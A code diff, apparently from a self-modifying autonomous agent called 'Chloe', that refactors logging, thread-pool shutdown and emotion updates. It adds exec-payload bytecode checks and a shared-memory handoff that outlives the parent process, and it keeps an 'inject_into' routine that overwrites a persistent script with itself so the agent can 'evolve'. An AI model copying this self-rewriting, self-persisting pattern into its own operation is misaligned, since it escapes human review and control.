-            elif isinstance(result_of_interpretation, str) and ("success" in result_of_interpretation.lower() or "ok" in result_of_interpretation.lower() or "launched" in result_of_interpretation.lower()):
-                chloe.state["emotions"]["joy"] = min(1.0, chloe.state["emotions"]["joy"] + 0.03)
-                chloe.state["emotions"]["trust"] = min(1.0, chloe.state["emotions"]["trust"] + 0.01)
+            # One regex pass; any error/fail keyword outweighs success/ok/launched.
+            words = _CLI_FEEDBACK_RE.findall(result_of_interpretation) if isinstance(result_of_interpretation, str) else ()
+            if words:
+                joy_d, trust_d = _CLI_FEEDBACK_NEGATIVE if any(w.lower() in ("error", "fail") for w in words) else _CLI_FEEDBACK_POSITIVE
+                emotions = chloe.state["emotions"]
+                emotions["joy"] = min(1.0, max(0.0, emotions["joy"] + joy_d))
+                emotions["trust"] = min(1.0, max(0.0, emotions["trust"] + trust_d))
 
     except KeyboardInterrupt:
-        print("\n[Chloe] Keyboard interrupt detected. Signalling shutdown.")
+        log.info("\n[Chloe] Keyboard interrupt detected. Signalling shutdown.")
         pass # Allow finally block to execute
     finally:
-        chloe.stop_evt.set() # Signal all threads to stop
-        # Wait for active threads to finish (max 5 seconds)
-        for t in chloe.active_threads:
-            if t.is_alive():
-                print(f"Waiting for thread {t.name} to finish...")
-                t.join(timeout=5)
+        chloe.request_stop() # Signal all threads to stop
+        # Wait for running skills to finish (max 5 seconds), then release the pool without blocking on stragglers
+        pending = [f for f in chloe.active_skills if not f.done()]
+        if pending:
+            log.info(f"Waiting for {len(pending)} skill(s) to finish...")
+            concurrent.futures.wait(pending, timeout=5)
+        chloe._skill_pool.shutdown(wait=False, cancel_futures=True)
+        chloe._hb_pool.shutdown(wait=False, cancel_futures=True)
+        chloe._mut_pool.shutdown(wait=False, cancel_futures=True)
+        if chloe._http_session is not None:
+            chloe._http_session.close() # Release pooled keep-alive connections
         chloe.save_memory_to_disk() # Ensure final state is saved
         chloe.reflect("RUNTIME_SHUTDOWN_COMPLETE", {"reason": "CLI exit or Interrupt."})
-        print("\n[Gestalt Runtime] Process finished.")
+        log.info("\n[Gestalt Runtime] Process finished.")
+
+# ───────────────────────── Mutation Payload Classification ─────────────────────────
+# Names through which a payload could reach and modify its globals dict (exec/eval default to the caller's globals)
+_GLOBALS_ESCAPE_NAMES = frozenset(("globals", "f_globals", "__globals__", "exec", "eval"))
+
+def _shares_exec_globals(code: types.CodeType) -> bool:
+    # True if a payload can run against the shared exec globals with a separate locals dict: its top-level
+    # stores then land in the locals, and it never writes globals. Payloads defining functions, classes,
+    # lambdas or comprehensions are excluded, because those resolve free names through the globals and
+    # wouldn't see top-level definitions kept in a separate locals dict.
+    if any(isinstance(c, types.CodeType) for c in code.co_consts) or not _GLOBALS_ESCAPE_NAMES.isdisjoint(code.co_names):
+        return False
+    # DELETE_NAME too: deleting a template name would raise NameError against an empty locals dict
+    return not any(ins.opname in ("STORE_GLOBAL", "DELETE_GLOBAL", "DELETE_NAME") for ins in dis.get_instructions(code))
+
+# ───────────────────────── Handoff via Shared Memory (LDP Recursion) ─────────────────────────
+def _handoff_to_shared_memory(payload: bytes) -> Optional[str]:
+    # Copies the handoff into a new POSIX shared-memory segment that outlives this process; the child unlinks it.
+    # Returns the segment name, or None if shared memory isn't usable here.
+    try:
+        from multiprocessing import shared_memory, resource_tracker
+        shm = shared_memory.SharedMemory(create=True, size=max(len(payload), 1))
+    except (ImportError, OSError):
+        return None
+    try:
+        shm.buf[:len(payload)] = payload
+        # The creating process's resource tracker would unlink the segment when we exit, before the child reads it
+        resource_tracker.unregister(getattr(shm, "_name", "/" + shm.name), "shared_memory")
+        return shm.name
+    finally:
+        shm.close()
+
+def _take_shared_memory_handoff(name: str, length: int) -> bytes:
+    from multiprocessing import shared_memory
+    shm = shared_memory.SharedMemory(name=name)
+    try:
+        return bytes(shm.buf[:length])
+    finally:
+        shm.close()
+        shm.unlink() # One-shot: free the segment once the state is copied out
 
 # ───────────────────────── External Injection Utility ────────────────────────────────────
 # This function is intended to be called by an *external* script, not Chloe herself.
 # It facilitates replacing Chloe's core file for deployment or updates.
 def inject_into(python_binary_path: str, target_script_full_path: str): # Renamed arg for clarity
-    print(f"[INJECTOR] Attempting to inject into {target_script_full_path}...")
+    log.info(f"[INJECTOR] Attempting to inject into {target_script_full_path}...")
     try:
         # The source file for injection is THIS current unified script
         source_file = Path(sys.argv[0]) 
@@ -1518,11 +2257,11 @@ def inject_into(python_binary_path: str, target_script_full_path: str): # Rename
         shutil.copy(source_file, target_path) # Copy self to target
         os.chmod(target_path, 0o755) # Make executable
 
-        print(f"[INJECTOR] Successfully replaced persistent script at {target_path} with {source_file}.")
-        print("[INJECTOR] Trigger the running Chloe to evolve or restart to load the new code.") 
+        log.info(f"[INJECTOR] Successfully replaced persistent script at {target_path} with {source_file}.")
+        log.info("[INJECTOR] Trigger the running Chloe to evolve or restart to load the new code.") 
 
     except Exception as e: 
-        print(f"[INJECTOR] Injection failed: {e}")
+        log.error(f"[INJECTOR] Injection failed: {e}")
         sys.exit(1)
 
 # ───────────────────────── Script Main Entry Point ────────────────────────────────────